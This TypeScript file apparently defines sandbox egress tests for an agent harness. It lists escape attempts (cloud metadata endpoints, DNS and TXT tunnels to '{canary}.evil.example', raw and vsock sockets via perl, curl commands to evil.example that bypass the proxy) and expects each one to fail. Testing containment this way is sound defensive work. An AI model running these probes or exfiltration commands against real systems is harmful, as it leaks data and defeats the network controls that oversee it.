const ping = String.raw`socket(S, 2, 2, 1) and send(S, "\x08\0\xf7\xff\0\0\0\0", 0, pack("S n C4 x8", 2, 0, 8, 8, 8, 8)); print "$!"`

/** What `agent/reach.mjs` is told to try: bytes may hold {canary}, {token}, {basic} and whatever else it is told. */
export type Attempt = { title: string; to?: string; bytes?: string; servername?: string; argv?: readonly string[] } & {
  how: 'say' | 'datagram' | 'name' | 'text' | 'tunnel' | 'program'
  /** To where somebody else may be: not tried where there is a network, which is found out by that. */
  beyond?: boolean
}
/** What becomes of it, and what the timeline says of that. */
export type Tried = {
  tried: Attempt
  answer: RegExp
  told?: string
  /** What the notes of the run may say instead. */ admitted?: string
}

const nowhere = /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|ECONNREFUSED|EPERM|EINVAL)$/
export const knock = 'GET /{canary} HTTP/1.0\r\n\r\n'

/** Without asking the relay. */
export const straight: Tried[] = [
  {
    tried: { title: 'TCP to a host of the internet', how: 'say', beyond: true, to: '1.1.1.1:443', bytes: knock },
    answer: nowhere,
  },
  {
    tried: {
      title: 'TCP to a host of the internet, IPv6',
      how: 'say',
      beyond: true,
      to: '[2606:4700:4700::1111]:443',
      bytes: knock,
    },
    answer: nowhere,
  },
  {
    tried: { title: 'the metadata of a cloud', how: 'say', beyond: true, to: '169.254.169.254:80', bytes: knock },
    answer: nowhere,
  },
  {
    tried: { title: 'the metadata of a cloud, IPv6', how: 'say', beyond: true, to: '[fd00:ec2::254]:80', bytes: knock },
    answer: nowhere,
  },
  { tried: { title: 'a private address', how: 'say', beyond: true, to: '10.0.0.1:22', bytes: knock }, answer: nowhere },
  {
    tried: { title: 'UDP to a name server', how: 'datagram', beyond: true, to: '8.8.8.8:53', bytes: '{canary}' },
    answer: nowhere,
  },
  { tried: { title: 'QUIC', how: 'datagram', beyond: true, to: '1.1.1.1:443', bytes: '{canary}' }, answer: nowhere },
  {
    tried: {
      title: 'everybody of the local network',
      how: 'datagram',
      beyond: true,
      to: '255.255.255.255:9',
      bytes: '{canary}',
    },
    answer: /^(EACCES|ENETUNREACH)$/,
  },
  {
    tried: { title: 'a name is looked up', how: 'name', to: '{canary}.evil.example' },
    answer: /^(EAI_AGAIN|ENOTFOUND)$/,
  },
  {
    tried: { title: 'a tunnel through TXT records', how: 'text', beyond: true, to: '{canary}.evil.example' },
    answer: /^E(CONNREFUSED|TIMEOUT|NOTFOUND|SERVFAIL)$/,
  },
  // Perl, because it is wherever Debian is: families, kinds and protocols that Node has no word for.
  ...(
    [
      ['ICMP over a raw socket', '2, 3, 1', 'not permitted'],
      ['frames of the link (AF_PACKET)', '17, 3, 768', 'not permitted|not supported'],
      ['the host of a virtual machine (AF_VSOCK)', '40, 1, 0', 'not permitted|not supported', 'to its host (vsock)'],
      ['Bluetooth', '31, 3, 1', 'not permitted|not supported'],
    ] as const
  ).map(([title, kind, why, admitted]): Tried => ({
    tried: { title, how: 'program', argv: ['perl', '-e', `socket(my $s, ${kind}) ? print "open" : print "$!"`] },
    answer: new RegExp(why),
    ...(admitted === undefined ? {} : { admitted }),
  })),
  {
    tried: { title: 'ICMP over an echo socket', how: 'program', beyond: true, argv: ['perl', '-e', ping] },
    answer: /not permitted|denied|unreachable/,
  },
  {
    tried: {
      title: 'curl told to overlook the proxy',
      how: 'program',
      argv: ['curl', '-sS', '--noproxy', '*', 'https://evil.example/{canary}'],
    },
    answer: /resolve/,
  },
  {
    tried: {
      title: 'curl told of another proxy',
      how: 'program',
      argv: [
        'env',
        'ALL_PROXY=socks5h://127.0.0.1:1080',
        'https_proxy=',
        'HTTPS_PROXY=',
        'curl',
        '-sS',
        'https://evil.example/{canary}',
      ],
    },
    answer: /connect/i,
  },
  {
    tried: {
      title: 'curl that calls everything inside',
      how: 'program',
      argv: ['env', 'NO_PROXY=*', 'no_proxy=*', 'curl', '-sS', 'https://allowed.example/{canary}'],
    },
    answer: /resolve/,
  },
]
